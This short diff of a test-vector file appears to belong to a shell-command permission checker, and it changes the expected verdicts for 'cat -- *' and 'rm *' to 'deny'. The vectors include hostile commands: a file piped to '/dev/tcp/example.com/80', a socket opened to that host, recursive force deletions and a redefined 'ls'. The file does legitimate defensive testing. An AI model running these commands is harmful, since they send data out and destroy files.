@@ -401,7 +401,7 @@ export const attacks: readonly LineVector[] = [
   ["ask", "ls --hyperlink=always"],
   ["ask", "date -s tomorrow"],
   ["ask", "grep -f a.txt -r ."],
-  ["ask", "cat -- *"],
+  ["deny", "cat -- *"],
   ["ask", "ls sub/out"],
   ["ask", "cat sub/out"],
   ["ask", "ls(){ make; }; ls"],
@@ -495,7 +495,7 @@ export const attacks: readonly LineVector[] = [
   ["HIGH", "cat a.txt > /dev/tcp/example.com/80"],
   ["HIGH", "exec 3<>/dev/tcp/example.com/80"],
   // Destroying it in other words.
-  ["HIGH", "rm *"],
+  ["deny", "rm *"],
   ["HIGH", "rm -r -f sub"],
   ["HIGH", "rm --recursive sub"],
   ["HIGH", "rm --recurs sub"],
